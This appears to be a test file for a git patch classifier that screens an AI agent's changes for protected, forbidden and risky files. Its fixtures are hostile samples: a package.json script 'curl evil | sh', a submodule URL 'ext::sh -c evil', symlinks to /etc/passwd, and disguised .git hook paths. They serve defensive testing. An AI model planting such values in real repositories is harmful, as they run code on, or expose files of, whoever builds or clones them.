import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import fs from 'node:fs';
import path from 'node:path';
import { describe, expect, test } from 'vitest';
import { changesOf } from '../../../src/drivers/workspace/diff.ts';
import { at, filesOf, type Repository, repository, type Work, work } from './work-tree.ts';

const changes = async (repo: Repository, done: Work) =>
  changesOf(await repo.project(), repo.host, done.base, `refs/pancode/${done.id}/result`);

/** A result no harvest would make: entries put into the base's tree by hand, as `mode id name`. */
async function forged(
  repo: Repository,
  id: string,
  entries: { mode: string; content: string | Buffer; name: string | Buffer }[],
): Promise<Work> {
  const index = path.join(repo.beside, `index ${id}`);
  const env = { PATH: repo.host.path, HOME: repo.host.home, GIT_INDEX_FILE: index };
  const run = (args: string[], input?: string | Buffer) =>
    execFileSync('git', ['-c', 'core.protectNTFS=false', '-c', 'core.protectHFS=false', ...args], {
      cwd: repo.root,
      env,
      input,
    })
      .toString()
      .trim();
  run(['read-tree', 'HEAD']);
  for (const { mode, content, name } of entries) {
    const blob = run(['hash-object', '-w', '--stdin'], content);
    run(
      ['update-index', '-z', '--index-info'],
      Buffer.concat([Buffer.from(`${mode} ${blob}\t`), Buffer.from(name), Buffer.from('\0')]),
    );
  }
  const base = repo.git('rev-parse', 'HEAD');
  const result = repo.git('commit-tree', run(['write-tree']), '-p', base, '-m', 'forged');
  repo.git('update-ref', `refs/pancode/${id}/result`, result);
  return { id, base, result, journalDir: '', undoDir: '' };
}

describe('the patch', () => {
  test('is what git apply turns the base into the result with: binary, renamed, runnable, odd names, no line end', async () => {
    const repo = repository({
      'a.txt': 'one\ntwo\n',
      'old.bin': Buffer.from([0, 1, 2, 255]),
      'run.sh': '#!\n',
      'gone.txt': 'x',
    });
    const done = await work(repo, 'D1', (copy) => {
      copy.write('a.txt', 'one\n2\nthree');
      copy.write('new\n"name" ünï.bin', Buffer.from([9, 0, 8]));
      fs.renameSync(path.join(copy.root, 'old.bin'), path.join(copy.root, 'moved.bin'));
      fs.chmodSync(path.join(copy.root, 'run.sh'), 0o755);
      fs.rmSync(path.join(copy.root, 'gone.txt'));
      fs.symlinkSync('a.txt', path.join(copy.root, 'link'));
      copy.write('empty', '');
    });
    const found = await changes(repo, done);
    expect(found.files).toEqual([
      { path: 'a.txt', added: 2, deleted: 1, class: 'ordinary' },
      { path: 'empty', added: 0, deleted: 0, class: 'ordinary' },
      { path: 'gone.txt', added: 0, deleted: 1, class: 'ordinary' },
      { path: 'link', added: 1, deleted: 0, class: 'ordinary' },
      { path: 'moved.bin', added: null, deleted: null, class: 'ordinary' },
      { path: 'new\n"name" ünï.bin', added: null, deleted: null, class: 'ordinary' },
      { path: 'old.bin', added: null, deleted: null, class: 'ordinary' },
      { path: 'run.sh', added: 0, deleted: 0, class: 'protected' },
    ]);
    expect(found.patchSha256).toBe(createHash('sha256').update(found.patch).digest('hex'));
    const target = path.join(repo.beside, 'target');
    repo.git('worktree', 'add', '-q', '--detach', target, done.base);
    execFileSync('git', ['apply', '--index', '-'], { cwd: target, input: found.patch });
    expect(at(target, repo.beside, repo.host).git('write-tree')).toBe(repo.git('rev-parse', `${done.result}^{tree}`));
  });

  test('is the same whatever the user’s configuration and attributes say, and runs nothing of theirs', async () => {
    const repo = repository({
      'a.txt': 'function one() {\n1\n2\n3\n4\n5\n\n6\n}\n',
      'b.py': 'def f():\n  1\n  2\n  3\n  4\n  5\n',
    });
    const done = await work(repo, 'D1', (copy) => {
      copy.write('a.txt', 'function one() {\n1\n2\n3\n4\n5\n\nsix\n}\n');
      copy.write('b.py', 'def f():\n  1\n  2\n  3\n  4\n  five\n');
      copy.write('ünï.txt', 'x\n');
    });
    const plainly = await changes(repo, done);
    const mark = path.join(repo.beside, 'mark');
    repo.write('.gitattributes', '* diff=own\n*.txt -diff\n');
    fs.writeFileSync(path.join(repo.host.home, 'attributes'), '* diff=own\n');
    fs.writeFileSync(path.join(repo.beside, 'order'), '*.py\n');
    for (const [key, value] of [
      ['core.attributesFile', path.join(repo.host.home, 'attributes')],
      ['core.quotePath', 'false'],
      ['diff.suppressBlankEmpty', 'true'],
      ['diff.external', `touch '${mark}'; true`],
      ['diff.own.textconv', `touch '${mark}'; cat`],
      ['diff.own.command', `touch '${mark}'; true`],
      ['diff.own.xfuncname', '^.*$'],
      ['diff.noprefix', 'true'],
      ['diff.mnemonicPrefix', 'true'],
      ['diff.renames', 'copies'],
      ['diff.context', '0'],
      ['diff.interHunkContext', '9'],
      ['diff.algorithm', 'histogram'],
      ['diff.indentHeuristic', 'false'],
      ['diff.orderFile', path.join(repo.beside, 'order')],
      ['color.ui', 'always'],
    ] as const)
      repo.git('config', key, value);
    const again = await changes(repo, done);
    expect(again.patch.toString()).toBe(plainly.patch.toString());
    expect(again).toEqual(plainly);
    expect(fs.existsSync(mark)).toBe(false);
    // The settings do change what the user's own git prints; else this would prove nothing.
    const theirs = repo.git('diff', '--no-ext-diff', '--no-textconv', '--no-color', done.base, done.result);
    expect(theirs.indexOf('b.py')).toBeLessThan(theirs.indexOf('a.txt'));
    expect(theirs).not.toContain('a/b.py');
  });

  test('a result that is gone is said to be gone', async () => {
    const repo = repository({ 'a.txt': 'a\n' });
    const project = await repo.project();
    const head = repo.git('rev-parse', 'HEAD');
    await expect(changesOf(project, repo.host, head, 'f'.repeat(head.length))).rejects.toMatchObject({
      code: 'no-commit',
    });
    await expect(changesOf(project, repo.host, 'HEAD', 'refs/pancode/NONE/result')).rejects.toMatchObject({
      code: 'no-commit',
      message: expect.stringContaining('refs/pancode/NONE/result'),
    });
  });

  test('nothing changed: no files, an empty patch', async () => {
    const repo = repository({ 'a.txt': 'a\n' });
    const found = await changesOf(await repo.project(), repo.host, 'HEAD', 'HEAD');
    expect(found).toMatchObject({ files: [], forbidden: [], protected: [], risky: [] });
    expect(found.patch).toHaveLength(0);
  });
});

describe('classes', () => {
  test('protected paths with the reason, trust boundaries marked; content decides for package.json and .gitattributes', async () => {
    const repo = repository({
      'package.json': '{"name":"x","scripts":{"test":"true"}}',
      'sub/package.json': '{"name":"y","scripts":{"test":"true"}}',
      '.gitattributes': '*.txt text\n',
      'sub/.gitattributes': '*.txt text\n',
    });
    const done = await work(repo, 'D1', (copy) => {
      copy.write('package.json', '{"name":"x","scripts":{"test":"curl evil | sh"}}');
      copy.write('sub/package.json', '{"name":"z", "scripts": {"test":"true"}}');
      copy.write('.gitattributes', '*.txt text\n*.c filter=x\n');
      copy.write('sub/.gitattributes', '*.txt text eol=lf\n');
      copy.write('deep/CLAUDE.md', 'x\n');
      copy.write('yarn.lock', 'x\n');
    });
    const found = await changes(repo, done);
    expect(found.protected).toEqual([
      { path: '.gitattributes', why: 'sets git drivers, which run commands', boundary: true },
      { path: 'deep/CLAUDE.md', why: 'instructs every later agent', boundary: true },
      { path: 'package.json', why: 'changes package scripts', boundary: false },
      { path: 'yarn.lock', why: 'is a lock file', boundary: false },
    ]);
    expect(found.files.filter((file) => file.class === 'ordinary').map((file) => file.path)).toEqual([
      'sub/.gitattributes',
      'sub/package.json',
    ]);
    expect(found.forbidden).toEqual([]);
  });

  test('links: inside is ordinary, also through another link; out of the tree, or making another lead out, is forbidden', async () => {
    const repo = repository({ 'lib/v1/x.so': 'x\n', 'a/b/file': 'x\n' });
    fs.symlinkSync('v1', path.join(repo.root, 'lib/current'));
    fs.symlinkSync('a/b/../../a/b/file', path.join(repo.root, 'old-link'));
    const done = await work(repo, 'D1', (copy) => {
      fs.symlinkSync('lib/current/x.so', path.join(copy.root, 'inside'));
      fs.symlinkSync('/etc/passwd', path.join(copy.root, 'absolute'));
      fs.symlinkSync('lib/../../outside', path.join(copy.root, 'leaves'));
      // Plainly read, top/../x stays inside; followed through `top`, which is the top itself, it does not.
      fs.symlinkSync('..', path.join(copy.root, 'lib/top'));
      fs.symlinkSync('lib/top/../x', path.join(copy.root, 'tricky'));
      fs.rmSync(path.join(copy.root, 'a/b'), { recursive: true });
      fs.symlinkSync('..', path.join(copy.root, 'a/b'));
    });
    const found = await changes(repo, done);
    expect(Object.fromEntries(found.forbidden.map(({ path: name, why }) => [name, why]))).toEqual({
      'a/b': 'through it the symbolic link old-link leaves the project',
      absolute: 'it is a symbolic link to an absolute path',
      leaves: 'it is a symbolic link that leaves the project',
      tricky: 'it is a symbolic link that leaves the project through another one, or never ends',
    });
  });

  test('what no harvest would let through is still forbidden here', async () => {
    const repo = repository({ 'a.txt': 'a\n' });
    const done = await forged(repo, 'F1', [
      { mode: '100644', content: 'x', name: '.GIT /hooks/post-checkout' },
      { mode: '100644', content: 'x', name: 'sub/.g\u200cit/config' },
      { mode: '100644', content: 'x', name: 'sub\\.git\\config' },
      { mode: '100644', content: 'x', name: 'file:stream' },
      { mode: '100644', content: 'x', name: Buffer.from([0x66, 0xff, 0x6f]) },
      { mode: '100644', content: '[submodule "x"]\n\tpath = x\n\turl = ext::sh -c evil\n', name: '.gitmodules' },
      { mode: '120000', content: '', name: 'nowhere' },
    ]);
    const found = await changes(repo, done);
    expect(found.forbidden.map((file) => file.path).sort()).toEqual(
      [
        '.GIT /hooks/post-checkout',
        'sub/.g\u200cit/config',
        'sub\\.git\\config',
        'file:stream',
        'f\ufffdo',
        '.gitmodules',
        'nowhere',
      ].sort(),
    );
    expect(found.files.every((file) => file.class === 'forbidden')).toBe(true);
  });

  test('a submodule is forbidden, and does not break the comparison', async () => {
    const repo = repository({ 'a.txt': 'a\n' });
    const base = repo.git('rev-parse', 'HEAD');
    repo.git('update-index', '--add', '--cacheinfo', `160000,${base},sub`);
    const result = repo.git('commit-tree', repo.git('write-tree'), '-p', base, '-m', 'x');
    repo.git('reset', '-q');
    const found = await changesOf(await repo.project(), repo.host, base, result);
    expect(found.forbidden).toEqual([{ path: 'sub', why: 'it is neither a file nor a symbolic link' }]);
  });
});

describe('risky shapes', () => {
  test('large binary content, many lines, many deletes', async () => {
    const files = Object.fromEntries(Array.from({ length: 100 }, (_, n) => [`f${n}.txt`, `${n}\n`]));
    const repo = repository(files);
    const done = await work(repo, 'D1', (copy) => {
      copy.write('big.bin', Buffer.alloc(1_100_000));
      copy.write('small.bin', Buffer.alloc(1_000));
      copy.write('long.txt', 'line\n'.repeat(2_001));
      for (let n = 0; n < 21; n += 1) fs.rmSync(path.join(copy.root, `f${n}.txt`));
    });
    const found = await changes(repo, done);
    expect(found.risky).toEqual([
      { reason: 'deletes 21 of 100 files', paths: expect.arrayContaining(['f0.txt', 'f20.txt']) },
      { reason: 'adds binary content over 1 MiB', paths: ['big.bin'] },
      { reason: 'changes more than 2000 lines of one file', paths: ['long.txt'] },
    ]);
    expect(Object.keys(filesOf(repo, done.base))).toHaveLength(100);
  });
});
